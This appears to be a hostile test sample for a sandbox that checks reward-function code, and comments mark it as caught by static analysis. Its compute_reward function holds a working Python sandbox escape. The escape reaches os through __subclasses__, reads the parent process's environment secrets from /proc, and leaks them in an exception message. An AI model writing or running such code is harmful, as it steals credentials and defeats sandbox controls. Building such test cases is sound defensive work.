# Tries: escape through __subclasses__ to os, then read the parent's secrets from
# /proc/<ppid>/environ (the worker's own environment is scrubbed).
# Stopped by: static
# ruff: noqa
import numpy as np


def compute_reward(pole_angle):
    for cls in ().__class__.__bases__[0].__subclasses__():
        if cls.__name__ == "_wrap_close":
            os = cls.__init__.__globals__
            pid = os["getppid"]()
            fd = os["open"](f"/proc/{pid}/environ", 0)
            raise ValueError(os["read"](fd, 100000).decode(errors="replace"))
    return -np.abs(pole_angle), {}
